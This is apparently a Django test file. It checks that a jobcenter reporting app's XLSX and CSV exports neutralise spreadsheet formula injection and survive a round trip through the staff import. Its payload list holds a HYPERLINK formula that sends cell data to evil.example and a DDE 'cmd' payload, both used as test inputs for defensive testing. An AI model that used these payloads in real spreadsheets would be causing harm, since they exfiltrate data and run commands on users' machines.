"""Formula injection (issue 11, item 1): every XLSX and CSV download writes text as text.

A note, a factor title or a jobcenter name that starts like a formula must reach
the reader as the text it is: in XLSX as a text cell (never a formula), in CSV
behind an apostrophe. The staff import takes that apostrophe off again.
"""

import csv
import io

from django.test import SimpleTestCase, override_settings
from django.urls import reverse
from openpyxl import load_workbook

from factors.models import Factor
from jobcenters import spreadsheets
from jobcenters.models import Implementation, Jobcenter, Status
from jobcenters.services import update_implementation
from kjc.spreadsheet_safety import FORMULA_START, csv_text, unguard, xlsx_row
from tests.base import PersonaTestCase

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]
NOTE = PAYLOADS[0]
INTERNAL = PAYLOADS[1]
TITLE = "-2+3 Gelingensfaktor"
NAME = "@SUM(1+1) Jobcenter"


class GuardTests(SimpleTestCase):
    def test_csv_text(self):
        for payload in [*PAYLOADS, "\tTab", "\rCR"]:
            self.assertEqual(csv_text(payload), "'" + payload)
            self.assertEqual(unguard(csv_text(payload)), payload)
        for harmless in ["Anmerkung", "", "'schon zitiert", "a=b", "06438"]:
            self.assertEqual(csv_text(harmless), harmless)
            self.assertEqual(unguard(harmless), harmless)
        # Numbers stay numbers: the csv module writes -2 as the number it is.
        self.assertEqual(csv_text(-2), -2)
        self.assertEqual(csv_text(None), None)

    def test_unguard_only_where_the_guard_was_added(self):
        self.assertEqual(unguard("'Zitat'"), "'Zitat'")
        self.assertEqual(unguard("''=1"), "''=1")

    def test_xlsx_row_in_both_workbook_modes(self):
        from openpyxl import Workbook

        for write_only in (False, True):
            workbook = Workbook(write_only=write_only)
            sheet = workbook.create_sheet("x") if write_only else workbook.active
            sheet.append(xlsx_row(sheet, [*PAYLOADS, "#N/A", 7, -2, None, "Text"]))
            buffer = io.BytesIO()
            workbook.save(buffer)
            cells = next(load_workbook(buffer).worksheets[0].iter_rows())
            self.assertEqual(
                [(c.value, c.data_type) for c in cells],
                [(p, "s") for p in [*PAYLOADS, "#N/A"]]
                + [(7, "n"), (-2, "n"), (None, "n"), ("Text", "s")],
            )


@override_settings(LANGUAGE_CODE="en")
class DownloadTests(PersonaTestCase):
    """The payloads in a public and an internal note, a factor title and a jobcenter
    name, through every download."""

    factor_count = len(PAYLOADS)

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        Factor.objects.filter(pk=cls.factors[0].pk).update(title=TITLE)
        Jobcenter.objects.filter(pk=cls.jobcenter_a.pk).update(name=NAME)
        for number, note in enumerate(PAYLOADS, start=1):
            impl = Implementation.objects.get(jobcenter=cls.jobcenter_a, factor__number=number)
            update_implementation(
                implementation=impl,
                values={"public_note": note, "internal_note": INTERNAL},
                expected_version=impl.version,
                user=cls.staff_a,
            )

    def assert_xlsx_safe(self, content, expected):
        workbook = load_workbook(io.BytesIO(content))
        found = set()
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    self.assertNotEqual(cell.data_type, "f", f"formula in {sheet.title}!{cell}")
                    if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                        self.assertEqual(cell.data_type, "s")
                        found.add(cell.value)
        self.assertLessEqual(expected, found)

    def assert_csv_safe(self, text, expected, delimiter):
        found = set()
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter):
            for value in row:
                self.assertFalse(value.startswith(FORMULA_START), value)
                if value.startswith("'"):
                    found.add(value[1:])
        self.assertLessEqual(expected, found)

    def test_dashboard_xlsx(self):
        self.login(self.coordinator)
        response = self.client.get(reverse("reports:dashboard_xlsx"))
        self.assertEqual(response.status_code, 200)
        # internal notes, the change list (old and new public notes), jobcenter names
        self.assert_xlsx_safe(response.content, {INTERNAL, NAME})

    def test_staff_xlsx_exports(self):
        self.login(self.coordinator)
        expected = {*PAYLOADS, INTERNAL, NAME, TITLE}
        for url in (
            reverse("jobcenters:export_status", args=[self.jobcenter_a.district.ags, "xlsx"]),
            reverse("jobcenters:export_all_status", args=["xlsx"]),
        ):
            with self.subTest(url):
                response = self.client.get(url)
                self.assertEqual(response.status_code, 200)
                self.assert_xlsx_safe(response.content, expected)

    def test_staff_csv_exports(self):
        self.login(self.coordinator)
        expected = {*PAYLOADS, INTERNAL, NAME, TITLE}
        for url in (
            reverse("jobcenters:export_status", args=[self.jobcenter_a.district.ags, "csv"]),
            reverse("jobcenters:export_all_status", args=["csv"]),
        ):
            with self.subTest(url):
                response = self.client.get(url)
                self.assertEqual(response.status_code, 200)
                self.assert_csv_safe(response.content.decode("utf-8"), expected, ";")

    def test_open_data_csv(self):
        expected = {
            "matrix": {*PAYLOADS, NAME, TITLE},
            "faktoren": {TITLE},
            "jobcenter": {NAME},
            "handlungsfelder": set(),
        }
        for dataset, payloads in expected.items():
            for url, delimiter in (
                (reverse("reports:download", args=[dataset, "csv"]), ","),
                (reverse("reports:download_excel", args=[dataset, "excel", "csv"]), ";"),
            ):
                with self.subTest(url):
                    response = self.client.get(url)
                    self.assertEqual(response.status_code, 200)
                    self.assert_csv_safe(response.content.decode("utf-8"), payloads, delimiter)

    def test_progress_stays_a_number(self):
        # Rows carrying the payloads, with a known progress.
        for number, (status, progress) in enumerate(
            [(Status.IN_PROGRESS, 40), (Status.DONE, 100)], start=1
        ):
            impl = Implementation.objects.get(jobcenter=self.jobcenter_a, factor__number=number)
            update_implementation(
                implementation=impl,
                values={"status": status, "progress": progress},
                expected_version=impl.version,
                user=self.coordinator,
            )
        response = self.client.get(reverse("reports:download", args=["matrix", "csv"]))
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
        # Unknown progress ("not reported") is empty since the reports branch, not 0; where
        # progress is known, the guard must not have turned the number into text.
        known = [row for row in rows if row["status"] != Status.NOT_REPORTED]
        self.assertEqual(sorted(row["progress"] for row in known), ["100", "40"])
        self.assertTrue(all(row["progress"].isdigit() for row in known))
        self.assertTrue(
            all(row["progress"] == "" for row in rows if row["status"] == Status.NOT_REPORTED)
        )


@override_settings(LANGUAGE_CODE="en")
class RoundTripTests(PersonaTestCase):
    """The staff import accepts its own export back unchanged, payloads and all."""

    def setUp(self):
        for number, note in enumerate(PAYLOADS[:3], start=1):
            impl = Implementation.objects.get(jobcenter=self.jobcenter_a, factor__number=number)
            update_implementation(
                implementation=impl,
                values={"public_note": note, "internal_note": "\tTab am Anfang"},
                expected_version=impl.version,
                user=self.staff_a,
            )

    def test_export_then_import_changes_nothing(self):
        self.login(self.staff_a)
        ags = self.jobcenter_a.district.ags
        for fmt in ("csv", "xlsx"):
            with self.subTest(fmt):
                content = self.client.get(
                    reverse("jobcenters:export_status", args=[ags, fmt])
                ).content
                preview = spreadsheets.preview_import(
                    content, user=self.staff_a, jobcenter=self.jobcenter_a
                )
                self.assertEqual(preview.errors, [])
                self.assertEqual(preview.changes, [])
                self.assertEqual(preview.rows, len(self.factors))

    def test_a_payload_typed_into_the_file_is_imported_as_text(self):
        self.login(self.staff_a)
        ags = self.jobcenter_a.district.ags
        content = self.client.get(reverse("jobcenters:export_status", args=[ags, "csv"]))
        text = content.content.decode("utf-8")
        # The guarded note of factor 1 becomes the guarded "@SUM(1+1)".
        text = text.replace("'" + PAYLOADS[0].replace('"', '""'), "'" + PAYLOADS[3], 1)
        preview = spreadsheets.preview_import(
            text.encode("utf-8"), user=self.staff_a, jobcenter=self.jobcenter_a
        )
        self.assertEqual(preview.errors, [])
        [change] = preview.changes
        self.assertEqual(change.fields, [("public_note", PAYLOADS[0], PAYLOADS[3])])
